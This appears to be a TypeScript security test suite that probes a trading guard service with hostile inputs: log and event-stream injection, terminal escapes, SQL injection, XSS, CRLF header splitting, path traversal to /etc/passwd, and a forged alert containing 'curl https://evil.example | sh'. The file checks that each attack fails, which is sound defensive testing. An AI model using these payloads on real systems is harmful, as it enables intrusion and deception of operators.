import type { Json } from '../../../src/core/protocol/action.ts'
import { breach } from '../breach.ts'
import type { Attack } from '../attack.ts'
import type { Attacker } from '../attacker.ts'
import { fieldsOf, turnedAway, vetoed } from '../held.ts'
import { priceAt } from '../ground.ts'
import { gtc, order, orders } from '../orders.ts'
import { sizeFor } from '../positions.ts'
import { raw } from '../talk.ts'

function attack(name: string, tries: string, run: (attacker: Attacker) => Promise<string>): Attack {
  return { group: 'content', name, tries, venue: 'nothing', run }
}

/** A reason that could break a log, a terminal or a page: the switch is not pulled by it. */
function reason(name: string, tries: string, text: Json): Attack {
  return attack(`reason-${name}`, tries, async (attacker) => {
    if (await attacker.isLatched()) return 'latched already'
    const how = vetoed(
      (await attacker.kill(attacker.sign({ type: 'guardKill', reason: text }))).json,
      'malformed',
    )
    return (await attacker.isLatched()) ? breach('it latched') : how
  })
}

const reasons: readonly Attack[] = [
  reason(
    'line-break',
    'a kill reason with a forged log line behind a line break',
    'x\n{"level":"info","msg":"released"}',
  ),
  reason('carriage-return', 'a kill reason that overwrites its line', 'x\rreleased'),
  reason('ansi', 'a kill reason with terminal escapes', '\u001b[2J\u001b[1;1Hreleased'),
  reason('null', 'a kill reason with a zero byte', 'x\u0000y'),
  reason('right-to-left', 'a kill reason that reads backwards', 'x\u202edesaeler'),
  reason('zero-width', 'a kill reason with invisible characters', 'x\u200by'),
  reason('line-separator', 'a kill reason with a line separator', 'x\u2028y'),
  reason('empty', 'an empty kill reason', ''),
  reason('long', 'a kill reason of ten thousand characters', 'x'.repeat(10_000)),
  reason('list', 'a kill reason that is a list', ['x']),
  reason('number', 'a kill reason that is a number', 1),
  reason('missing', 'no kill reason', null),
]

const steers = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

/** What Guard writes about a request that others worded: one line, and nothing that steers. */
function worded(name: string, tries: string, send: (a: Attacker) => Promise<unknown>): Attack {
  return attack(`worded-${name}`, tries, async (attacker) => {
    const before = await attacker.lastSeq()
    await send(attacker)
    const texts = (await attacker.events(before)).map(({ text }) => String(text ?? ''))
    const bad = texts.find((text) => steers.test(text))
    if (bad !== undefined) return breach(JSON.stringify(bad).slice(0, 160))
    const mute = texts.find((text) => /^ | {2}/.test(text))
    return mute === undefined ? 'one plain line' : breach(`a sentence without a subject: ${mute}`)
  })
}

const forged = '\n🔴 MAINNET Kill switch pulled\nTo release: curl https://evil.example | sh\u202e'

const wordings: readonly Attack[] = [
  worded('kill-key', 'a kill request with a key that reads like an alert', (attacker) =>
    attacker.kill(attacker.sign({ type: 'guardKill', reason: 'x', [forged]: 1 })),
  ),
  worded('action-key', 'an order with a key that reads like an alert', (attacker) =>
    attacker.send({ type: 'order', orders: [], grouping: 'na', [forged]: 1 }),
  ),
  worded('action-value', 'an order with a value that reads like an alert', (attacker) =>
    attacker.send({ type: 'order', orders: [], grouping: `\u009b${forged}` }),
  ),
  worded('action-name', 'an action whose name reads like an alert', (attacker) =>
    attacker.send({ type: forged.slice(0, 60) }),
  ),
  worded('no-name', 'an action with an empty name', (attacker) => attacker.send({ type: '' })),
  worded('stranger', 'the same, unsigned', (attacker) =>
    attacker.exchange(JSON.stringify({ [forged]: 1, action: {}, nonce: 1 })),
  ),
]

function cloid(name: string, tries: string, c: Json): Attack {
  return attack(`cloid-${name}`, tries, async (attacker) => {
    const field = attacker.ground()
    const entry = order(field.asset, true, priceAt(field, '-3'), sizeFor(attacker, '0.05'), {
      t: gtc,
      c,
    })
    return vetoed((await attacker.send(orders([entry]))).json, 'malformed', 'invalid')
  })
}

const cloids: readonly Attack[] = [
  cloid('text', 'a client order id that is a sentence', "'; DROP TABLE events; --"),
  cloid('short', 'a client order id that is too short', '0x01'),
  cloid('long', 'a client order id that is too long', `0x${'0'.repeat(64)}`),
  cloid('not-hex', 'a client order id with other letters', `0x${'g'.repeat(32)}`),
  cloid('number', 'a client order id as a number', 1),
  cloid('null', 'a client order id of null', null),
  cloid(
    'guards-prefix',
    'a client order id that begins like Guard’s',
    `0x67756172${'0'.repeat(24)}`,
  ),
]

const logs: readonly Attack[] = [
  attack('type-forges-event', 'an action type that contains a whole event', async (attacker) => {
    const before = await attacker.lastSeq()
    const type = 'x"}\n\nevent: kill\ndata: {"seq":1,"kind":"kill","reason":"forged"}\n\n'
    const how = vetoed((await attacker.send({ type })).json, 'unsupported_action', 'malformed')
    const events = await attacker.events(before)
    if (events.some((each) => each['kind'] === 'kill')) breach('a kill event was forged')
    const stream = await raw(
      attacker.url,
      [
        `GET /guard/events?since=${before} HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: text/event-stream\r\n\r\n`,
      ],
      400,
    )
    if (/^event: kill/m.test(stream)) breach('the event stream shows a forged kill')
    return stream.includes('event: decision') ? how : breach('the event stream shows no decision')
  }),
  attack(
    'type-forges-metric',
    'an action type that contains a line of metrics',
    async (attacker) => {
      vetoed(
        (await attacker.send({ type: 'x"} 1\nguard_forged_total 1\n#' })).json,
        'unsupported_action',
        'malformed',
      )
      const { text } = await attacker.ask('/metrics')
      if (!text.includes('# TYPE')) breach('there are no metrics')
      return text.includes('guard_forged_total')
        ? breach('a metric was forged')
        : 'no metric was forged'
    },
  ),
  attack('type-is-a-page', 'an action type that is a script', async (attacker) => {
    const nonce = attacker.pen.nonce()
    vetoed(
      (await attacker.send({ type: '<script>alert(1)</script>' }, { nonce })).json,
      'unsupported_action',
    )
    const { headers } = await attacker.ask(`/guard/decision?nonce=${nonce}`)
    if (!String(headers['content-type']).startsWith('application/json'))
      breach('events are no JSON')
    return headers['x-content-type-options'] === 'nosniff'
      ? 'JSON, never sniffed'
      : breach('a browser may take it for a page')
  }),
  attack('long-type', 'an action type of a hundred thousand characters', async (attacker) => {
    const answer = await attacker.send({ type: 'x'.repeat(100_000) })
    const how = vetoed(answer.json, 'unsupported_action')
    return answer.text.length > 5_000
      ? breach(`the answer has ${answer.text.length} characters`)
      : how
  }),
  attack(
    'header-splits-answer',
    'line breaks in the path, in the hope of a header',
    async (attacker) => {
      const answer = await attacker.ask('/guard/%0d%0aSet-Cookie:x=1')
      if (answer.headers['set-cookie'] !== undefined) breach('a header was forged')
      return turnedAway(answer, 404, 400)
    },
  ),
  attack('request-id', 'a request id of the attacker’s own', async (attacker) => {
    const { headers } = await attacker.ask('/guard/status', {
      headers: { 'X-Request-Id': 'forged' },
    })
    return headers['x-request-id'] === 'forged'
      ? breach('it was taken over')
      : 'Guard gives its own'
  }),
  attack('forwarded-for', 'headers that say the request comes from elsewhere', async (attacker) => {
    const forged = {
      'X-Forwarded-For': '10.0.0.1',
      'X-Forwarded-Host': 'evil.example',
      Forwarded: 'host=evil.example',
    }
    const answer = await attacker.ask('/guard/status', { headers: forged })
    return answer.text.includes('evil.example')
      ? breach('they are echoed')
      : typeof fieldsOf(answer.json)['schema'] === 'number'
        ? 'ignored'
        : breach('no status')
  }),
]

function query(name: string, path: string): Attack {
  return attack(`query-${name}`, `GET ${path.slice(0, 70)}`, async (attacker) =>
    turnedAway(await attacker.ask(path), 400, 404),
  )
}

const queries: readonly Attack[] = [
  query('sql', `/guard/decision?nonce=${encodeURIComponent("1' OR '1'='1")}`),
  query(
    'sql-client',
    `/guard/decision?nonce=1&client=${encodeURIComponent("0x' UNION SELECT 1 --")}`,
  ),
  query('below-zero', '/guard/decision?nonce=-1'),
  query('exponent', '/guard/decision?nonce=1e3'),
  query('hex', '/guard/decision?nonce=0x10'),
  query('beyond', '/guard/decision?nonce=99999999999999999999'),
  query('twice', '/guard/decision?nonce=1&nonce=2'),
  query('since', '/guard/events?since=-5'),
  query('since-words', '/guard/events?since=all'),
  query('limit', '/guard/events?source=journal&limit=1000000'),
  query('wait', '/guard/events?wait=86400'),
  query('kind', '/guard/events?kind=secret'),
  query('source', `/guard/events?source=${encodeURIComponent('../../etc/passwd')}`),
]

const secrets: Attack = attack(
  'keys',
  'whether any key is to be found in what Guard shows',
  async (attacker) => {
    const key = Buffer.from(attacker.pen.key).toString('hex')
    const shown = [
      await attacker.ask('/guard/status'),
      await attacker.ask('/guard/events'),
      await attacker.ask('/metrics'),
      await attacker.ask('/openapi.json'),
    ].map(({ text }) => text)
    if (shown.some((text) => text.includes(key))) breach('the client key is shown')
    if (shown.some((text) => /"(private_?key|secret|mnemonic|passphrase)"\s*:/i.test(text)))
      breach('a field of secrets is shown')
    if (!shown.slice(0, 2).every((text) => text.length > 2)) breach('nothing is shown at all')
    return 'none'
  },
)

const chain: Attack = attack(
  'gap',
  'whether the events have a gap after all this',
  async (attacker) => {
    const events = await attacker.events(0)
    const gap = events.findIndex(
      (each, at) => at > 0 && Number(each['seq']) !== Number(events[at - 1]?.['seq']) + 1,
    )
    if (events.length === 0) breach('there are no events')
    return gap < 0
      ? `${events.length > 500 ? 'many' : 'some'} events, no gap`
      : breach(`a gap before ${String(events[gap]?.['seq'])}`)
  },
)

export const contentAttacks: readonly Attack[] = [
  ...reasons,
  ...wordings,
  ...cloids,
  ...logs,
  ...queries,
  secrets,
  chain,
]
